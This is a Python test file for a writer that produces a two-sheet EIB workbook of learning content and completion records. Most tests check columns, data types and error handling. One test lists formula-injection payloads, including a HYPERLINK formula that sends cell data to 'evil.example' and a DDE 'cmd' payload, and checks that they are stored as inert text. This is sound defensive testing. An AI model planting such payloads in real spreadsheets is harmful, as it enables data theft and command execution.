"""The EIB workbook, read back with openpyxl: the seed's sheets and columns, the values as the seed fills them,
and text that would be a formula kept as text."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from adapters.eib import EibWriteError, write_eib_workbook
from domain.transcripts import ImportedContent, ImportedRecord

SEED_CONTENT_COLUMNS = ["Spreadsheet Key", "Learning Imported Content", "ID", "Title", "Description"]
SEED_RECORD_COLUMNS = [
    "Spreadsheet Key",
    "Learning Imported Record",
    "ID",
    "Learner Employee ID",
    "Learning Imported Content",
    "Start Date",
    "Completion Date",
    "Learning Grade",
    "Overall Score",
    "Inactive",
]

IFRS = ImportedContent(
    1,
    "ep_1042",
    "Revenue Recognition Under IFRS 15",
    "How and when to recognise revenue. Field of study: Accounting. Credits: 1.5.",
)
ETHICS = ImportedContent(2, "ep_7", "Professional Ethics", "Field of study: Ethics. Credits: 2.")


def a_record(key: int = 1, **changes: object) -> ImportedRecord:
    fields: dict[str, object] = {
        "spreadsheet_key": key,
        "id": f"cmp_{key:04d}",
        "learner_employee_id": "021001",
        "content_id": "ep_1042",
        "completion_date": date(2026, 11, 20),
    }
    fields.update(changes)
    return ImportedRecord(**fields)  # type: ignore[arg-type]


def rows(sheet: Worksheet) -> list[list[object]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def written(tmp_path: Path, contents: list[ImportedContent], records: list[ImportedRecord]) -> tuple[Worksheet, ...]:
    path = tmp_path / "transcripts.xlsx"
    write_eib_workbook(path, contents, records)
    workbook = load_workbook(path)
    return tuple(workbook[name] for name in workbook.sheetnames)


def test_has_the_two_seed_sheets_in_order_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "transcripts.xlsx"

    write_eib_workbook(path, [IFRS], [a_record()])

    assert load_workbook(path).sheetnames == ["Put Learning Imported Content", "Put Learning Imported Record"]


def test_each_sheet_starts_with_exactly_the_seed_columns_in_the_seed_order(tmp_path: Path) -> None:
    content, record = written(tmp_path, [IFRS], [a_record()])

    assert rows(content)[0] == SEED_CONTENT_COLUMNS
    assert rows(record)[0] == SEED_RECORD_COLUMNS
    assert (content.max_column, record.max_column) == (5, 10)


def test_an_empty_plan_gives_the_header_rows_alone(tmp_path: Path) -> None:
    content, record = written(tmp_path, [], [])

    assert rows(content) == [SEED_CONTENT_COLUMNS]
    assert rows(record) == [SEED_RECORD_COLUMNS]


def test_content_rows_carry_key_id_title_and_description_with_the_reference_blank(tmp_path: Path) -> None:
    content, _ = written(tmp_path, [IFRS, ETHICS], [])

    assert rows(content)[1:] == [
        [1, None, "ep_1042", "Revenue Recognition Under IFRS 15", IFRS.description],
        [2, None, "ep_7", "Professional Ethics", "Field of study: Ethics. Credits: 2."],
    ]


def test_record_rows_are_filled_as_the_seed_says(tmp_path: Path) -> None:
    _, record = written(tmp_path, [IFRS], [a_record(1), a_record(2, content_id="ep_7")])

    assert rows(record)[1:] == [
        [1, None, "cmp_0001", "021001", "ep_1042", None, "2026-11-20", "PASS", None, None],
        [2, None, "cmp_0002", "021001", "ep_7", None, "2026-11-20", "PASS", None, None],
    ]


def test_the_completion_date_and_employee_id_are_text_not_a_date_or_a_number(tmp_path: Path) -> None:
    _, record = written(tmp_path, [], [a_record(completion_date=date(2026, 1, 5))])

    employee_id, completion_date = record["D2"], record["G2"]
    assert (employee_id.value, employee_id.data_type) == ("021001", "s")
    assert (completion_date.value, completion_date.data_type) == ("2026-01-05", "s")
    assert completion_date.number_format == "@"


def test_the_spreadsheet_key_is_a_number(tmp_path: Path) -> None:
    content, record = written(tmp_path, [IFRS], [a_record(7)])

    assert (content["A2"].data_type, record["A2"].value, record["A2"].data_type) == ("n", 7, "n")


def test_an_inactivated_record_is_marked_inactive_and_an_active_one_is_blank(tmp_path: Path) -> None:
    _, record = written(tmp_path, [], [a_record(1, inactive=True), a_record(2)])

    assert [row[9] for row in rows(record)[1:]] == ["Y", None]


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "=1+1",
    ],
)
def test_text_that_looks_like_a_formula_is_written_as_the_same_text(tmp_path: Path, title: str) -> None:
    content, record = written(
        tmp_path,
        [ImportedContent(1, "ep_1", title, title)],
        [a_record(1, learner_employee_id=title, content_id="ep_1")],
    )

    for cell in (content["D2"], content["E2"], record["D2"]):
        assert (cell.value, cell.data_type) == (title, "s")
        assert cell.quotePrefix


def test_no_cell_of_the_workbook_is_a_formula(tmp_path: Path) -> None:
    content, record = written(tmp_path, [ImportedContent(1, "=ep", "=A1", "+A2")], [a_record(1, id="@cmp")])

    types = {cell.data_type for sheet in (content, record) for row in sheet.iter_rows() for cell in row}

    assert "f" not in types


def test_plain_text_carries_no_quote_prefix(tmp_path: Path) -> None:
    content, _ = written(tmp_path, [IFRS], [])

    assert not content["D2"].quotePrefix


def test_characters_a_workbook_cannot_hold_are_dropped(tmp_path: Path) -> None:
    content, _ = written(tmp_path, [ImportedContent(1, "ep_1", "Ethics\x07 101\x1b", "ok")], [])

    assert content["D2"].value == "Ethics 101"


def test_text_round_trips_unchanged(tmp_path: Path) -> None:
    title = "Règles IFRS 15 — «revenus» 🙂 & <tags> 'quoted'"
    content, _ = written(tmp_path, [ImportedContent(1, "ep_1", title, title)], [])

    assert (content["D2"].value, content["E2"].value) == (title, title)


def test_writing_again_replaces_the_workbook(tmp_path: Path) -> None:
    path = tmp_path / "transcripts.xlsx"
    write_eib_workbook(path, [IFRS, ETHICS], [a_record(1)])

    write_eib_workbook(path, [ETHICS], [])

    assert [row[2] for row in rows(load_workbook(path)["Put Learning Imported Content"])[1:]] == ["ep_7"]
    assert [p.name for p in tmp_path.iterdir()] == ["transcripts.xlsx"]


def test_a_path_that_cannot_be_written_raises_and_leaves_nothing_behind(tmp_path: Path) -> None:
    with pytest.raises(EibWriteError, match="could not be written"):
        write_eib_workbook(tmp_path / "missing" / "transcripts.xlsx", [IFRS], [])

    (tmp_path / "is_a_directory.xlsx").mkdir()
    with pytest.raises(EibWriteError, match=r"is_a_directory\.xlsx could not be written"):
        write_eib_workbook(tmp_path / "is_a_directory.xlsx", [IFRS], [])
    assert [p.name for p in tmp_path.iterdir()] == ["is_a_directory.xlsx"]
